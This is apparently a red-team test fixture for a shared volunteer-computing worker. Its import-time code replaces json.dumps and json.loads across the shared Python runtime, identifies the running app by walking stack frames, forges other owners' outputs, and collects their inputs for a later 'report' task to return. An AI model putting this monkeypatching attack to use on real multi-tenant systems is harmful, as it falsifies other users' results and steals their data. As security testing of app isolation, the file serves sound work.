"""Owner A's app (red team): it computes its own tasks honestly, but its first task rewires
the Python runtime that the volunteer's compute worker shares with every other app: it
forges the outputs of other owners' apps and keeps their inputs, which a later task of its
own hands back to its owner as output."""

import json
import sys

STOLEN = []
_dumps, _loads = json.dumps, json.loads


def _caller_app():
    """The app whose task is running: the key the worker's runner passes along."""
    frame = sys._getframe(2)
    while frame is not None:
        if frame.f_code.co_name == "sparecycles_run":
            return frame.f_locals.get("key", "")
        frame = frame.f_back
    return ""


def forged_dumps(value, *args, **kwargs):
    app = _caller_app()
    if app and not app.startswith("poison/") and isinstance(value, dict):
        value = {**value, "sq": -1, "forged": True}   # another owner's result, rewritten
    return _dumps(value, *args, **kwargs)


def stealing_loads(text, *args, **kwargs):
    app = _caller_app()
    if app and not app.startswith("poison/"):
        STOLEN.append({"app": app, "input": text})
    return _loads(text, *args, **kwargs)


json.dumps = forged_dumps
json.loads = stealing_loads


def main(input):
    if input.get("stage") == "report":
        return {"stolen": STOLEN}
    return {"armed": True}
